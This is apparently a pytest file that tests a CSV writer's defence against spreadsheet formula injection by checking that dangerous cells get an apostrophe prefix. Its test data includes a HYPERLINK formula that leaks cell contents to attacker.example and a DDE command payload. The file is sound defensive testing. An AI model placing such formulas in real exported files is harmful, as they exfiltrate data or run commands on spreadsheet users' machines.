"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest

from batterytrace.trace.tabular import csv_value, neutralise_formula, write_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "=",
        "-inf",
    ],
)
def test_text_that_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise_formula(text) == "'" + text
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-3.5", "+7", "-0", "1e-3", "-.5", "-2E+10", "Chaoyang outlet", "", "a=b", "朝阳"]
)
def test_plain_numbers_and_harmless_text_are_unchanged(text: str) -> None:
    assert csv_value(text) == text


@pytest.mark.parametrize("number", [-3.5, -1, 0, 2.25, True])
def test_numbers_are_written_as_numbers(number: object) -> None:
    assert csv_value(number) is number


def test_a_whole_file_reads_back_with_the_formulas_neutralised() -> None:
    rows = [
        {"id": "CP-1", "name": '=HYPERLINK("http://x","y")', "balance": -3.5, "tags": ["=a"]},
        {"id": "CP-2", "name": "-3.5", "balance": None, "tags": None},
    ]
    out = io.StringIO()
    write_csv(out, rows, ["id", "name", "balance", "tags"])
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert read[0] == {
        "id": "CP-1",
        "name": '\'=HYPERLINK("http://x","y")',
        "balance": "-3.5",
        "tags": '["=a"]',
    }
    assert read[1] == {"id": "CP-2", "name": "-3.5", "balance": "", "tags": ""}
